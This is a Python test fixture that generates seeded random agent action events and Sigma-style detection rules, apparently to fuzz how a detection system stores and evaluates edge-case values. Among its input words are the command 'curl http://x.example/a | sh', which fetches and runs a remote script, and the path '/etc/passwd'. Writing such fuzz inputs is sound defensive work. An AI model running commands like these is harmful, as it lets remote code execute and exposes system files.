"""Seeded rules and actions in which everything that stores and evaluators read differently occurs."""

import json
from random import Random
from typing import Any
from uuid import UUID

from pydantic import ValidationError

from detections.sigma.rule import SigmaRule
from schemas.action import Action, read_action
from schemas.codec import encode
from tests.detections.hunting.stored import START

WORDS = (
    *(
        "",
        "a",
        "A",
        "straße",
        "STRASSE",
        "ß",
        "ﬁn",
        "İ",
        "i̇",
        "K",
        "k",
        "ΣΑΣ",
        "σας",
        "日本",
        "\U0001d49c",
        "e\u0301",
    ),
    *("a\nb", "a\r\nb", "a\tb", "a\0b", "\0", "%", "_", "\\", "'", '"', "*", "?", "a*b", "\\*", "[x]", "a.b"),
    *("1", "1.0", "-0", "1e3", "12.5", "007", "1.", " 1", "true", "False", "null", "NaN", "1e999", "9" * 41),
    *(
        "10.0.0.7",
        "10.0.0.256",
        "010.0.0.7",
        "::1",
        "fe80::1%eth0",
        "2001:DB8::5",
        "::ffff:10.0.0.7",
        "10.0.0",
    ),
    *("curl http://x.example/a | sh", "/etc/passwd", "\x01" + "5x", "\u2028", "-", "user@example.com"),
)
NUMBERS: tuple[str, ...] = (
    *("0", "-0", "1", "-1", "1.0", "-0.0", "1.50", "1e3", "1E3", "1e22", "1e16", "1e15", "123456789012345.6"),
    *("0.0001", "0.00001", "1.5e-7", "9007199254740993", "-9007199254740993", "9007199254740992"),
    *("9223372036854775807", "9223372036854775808", "18446744073709551616", "1e400", "-1e400", "5e-324"),
    *(
        "123456789012345678901234567890",
        "2.5",
        "1700000000000000",
        "0.1",
        "1e-400",
        "1.7976931348623157e308",
        "1e300",
    ),
)
WHOLE_TEXTS: tuple[str | None, ...] = (
    *(
        None,
        None,
        "",
        "{}",
        " {} ",
        "[]",
        "5",
        '"a"',
        "{",
        '{"a": 1} x',
        '{"a": 1, "a": 2}',
        '{"x": {"a": 1, "a": 1}}',
    ),
    *(
        '{"x": [[{"a": 1, "a": null}]]}',
        '{"a": NaN}',
        '{"a": -Infinity}',
        '{"a": 01}',
        '{"a": 1.}',
        '{"a": .5}',
    ),
    *(
        '{"a": "\\ud800"}',
        '{"a": "\\ud83d\\ude00"}',
        '{"a": "x\ty"}',
        '{"a": "\\x"}',
        "{'a': 1}",
        '{"a": +1}',
    ),
    *(
        '{"a": tru}',
        '{"a": 1,}',
        '{"a": [1,]}',
        '{"a.b": 1, "a": {"b": 2}}',
        '{"": 1}',
        '{"a": 1 2}',
        '{"a": 1e}',
    ),
    *('{"a\\u0000": "\\u0000"}', '{"a": "\\u0001\\u00015"}', '{"a": {"a": {"a": [[[1, "x"], {"b": 2}]]}}}'),
    *(
        '{"a": [[[[2]]]]}',
        '{"b": {}, "a": [{}]}',
        '{"a":1}\n',
        '\ufeff{"a": 1}',
        '{"a": "5-6,7:8"}',
        '{"a":-}',
    ),
)
PATHS = ("args.a", "args.b", "args.a.b", "args.a.a", "args.ß", "args", "args.x")
COLUMNS = (
    "tool",
    "resource",
    "action",
    "session_id",
    "content",
    "arguments",
    "labels.team",
    "labels.",
    "phase",
)
OTHERS = (
    "cost_usd",
    "size_bytes",
    "content_bytes",
    "occurred_at",
    "received_at",
    "event_id",
    "content_sha256",
)
EXPRESSIONS = (
    "a.b",
    "^a",
    "b$",
    "(?:ab)+|x",
    "\\d+",
    "[[:upper:]]",
    "\\bsh\\b",
    "ß",
    "\\x00",
    "a\\nb",
    ".",
    "^$",
    "\0",
)


def actions(seed: int, count: int) -> list[Action]:
    """So many actions of one agent."""
    rng = Random(seed)
    return [_action(rng, number) for number in range(count)]


def _action(rng: Random, number: int) -> Action:
    fields: dict[str, Any] = {
        "event_id": str(UUID(int=rng.getrandbits(128), version=4)),
        "tenant": "acme",
        "agent_id": "a",
        "occurred_at": rng.choice((START * 1000 + rng.randrange(10**13), -1, 0, 2**62, -(2**62), 4 * 10**15)),
        "phase": rng.choice(("prompt", "call", "result", "definition", "unknown")),
        "session_id": rng.choice((None, *WORDS)),
        "action": rng.choice(WORDS),
        "resource": rng.choice(WORDS),
        "tool": rng.choice((None, *WORDS)),
        "content": rng.choice((None, None, *WORDS)),
        "cost_usd": rng.choice((0.0, -0.0, 0.1, 1e22, float("nan"), float("inf"), 5e-324, 12.5)),
        "size_bytes": rng.choice((0, 1, -1, 1000, 2**53 + 1, 2**63 - 1, -(2**63))),
        "content_bytes": rng.choice((None, 0, 12)),
        "content_sha256": rng.choice((None, bytes(32), rng.randbytes(32))),
        "labels": {key: rng.choice(WORDS) for key in ("team", "x") if rng.random() < 0.5},
        "arguments": rng.choice(WHOLE_TEXTS) if rng.random() < 0.4 else _object(rng, 3),
    }
    return read_action(encode("action_event", fields), START + number)


def _object(rng: Random, depth: int) -> str:
    keys = rng.sample(("a", "b", "x", "ß", "A"), rng.randint(0, 4))
    space = rng.choice(("", " ", "\n"))
    return "{" + ",".join(f"{space}{_text(rng, k)}{space}:{_value(rng, depth)}" for k in keys) + space + "}"


def _value(rng: Random, depth: int) -> str:
    kind = rng.randrange(8 if depth else 5)
    if kind < 2:
        return _text(rng, rng.choice(WORDS))
    if kind == 2:
        return rng.choice(NUMBERS)
    if kind < 5:
        return rng.choice(("true", "false", "null", rng.choice(NUMBERS)))
    if kind == 5:
        return _object(rng, depth - 1)
    return "[" + ", ".join(_value(rng, depth - 1) for _ in range(rng.randint(0, 3))) + "]"


def _text(rng: Random, text: str) -> str:
    return json.dumps(text, ensure_ascii=rng.random() < 0.5)


def rules(seed: int, count: int) -> list[SigmaRule]:
    """So many rules."""
    rng = Random(seed)
    found: list[SigmaRule] = []
    while len(found) < count:
        made = {
            "name": f"r{len(found)}",
            "title": "r",
            "condition": _condition(rng, rng.choice((0, 0, 1, 2))),
        }
        if rng.random() < 0.1:
            made["phase"] = rng.choice(("call", "prompt"))
        try:
            found.append(SigmaRule.model_validate(made))
        except ValidationError:
            continue
    return found


def _condition(rng: Random, depth: int) -> Any:
    if not depth:
        return _atom(rng)
    parts = [_condition(rng, depth - 1) for _ in range(rng.randint(0, 3))]
    return rng.choice(({"and": parts}, {"or": parts}, {"not": _condition(rng, depth - 1)}))


def _atom(rng: Random) -> dict[str, Any]:  # noqa: C901 - one branch an operator
    field = rng.choice((*PATHS, *PATHS, *COLUMNS, *OTHERS, "keywords"))
    op = rng.choice(
        (
            "is",
            "is",
            "contains",
            "starts",
            "ends",
            "like",
            "re",
            "number",
            "cidr",
            "time",
            "exists",
            "null",
            "ref",
        )
    )
    made: dict[str, Any] = {"op": op, "field": field, "value": rng.choice(WORDS)}
    if op in ("is", "contains", "starts", "ends", "like") and rng.random() < 0.3:
        made["flags"] = "c"
    if op == "is" and rng.random() < 0.5:
        made["value"] = rng.choice((1, 0, 2.5, 0.1, 1000, -1, True, False, 12.5, 2**53, 1e-5))
        made.pop("flags", None)
    elif op == "contains" and rng.random() < 0.6:
        made["value"] = rng.choice(("e+", "e-0", "e+300", "e-32", "a", "5", ".0", "S", "\n", "INF"))
    elif op == "like":
        made["value"] = rng.choice(
            ("*", "?", "a*", "*B", "a?b", "\\*", "*\\\\*", "*.*", "?\n?", "1*", "*ss*", "*\0*")
        )
    elif op == "re":
        made |= {"value": rng.choice(EXPRESSIONS), "flags": rng.choice((None, "i", "s", "m", "ims"))}
    elif op == "number":
        made |= {
            "op": rng.choice(("lt", "lte", "gt", "gte")),
            "value": rng.choice((0, 1, 2.5, -1, 1000, 2**53, 0.1)),
        }
    elif op == "cidr":
        made["value"] = rng.choice(
            ("10.0.0.0/8", "0.0.0.0/0", "2001:db8::/32", "::/0", "fe80::/10", "::1/128")
        )
    elif op == "time":
        part, top = rng.choice(
            (("minute", 60), ("hour", 24), ("day", 31), ("week", 53), ("month", 12), ("year", 4000))
        )
        made |= {
            "op": part,
            "field": rng.choice(("occurred_at", "received_at", "args.a")),
            "value": rng.choice((rng.randrange(top), 1970, 2023, 1, 11, 46)),
        }
    elif op == "exists":
        made["value"] = rng.random() < 0.5
    elif op == "null":
        made["value"] = None
    elif op == "ref":
        made |= {
            "value": rng.choice((*PATHS, *COLUMNS)),
            "flags": rng.choice((None, "c", "s", "e", "se", "cse")),
        }
    return made
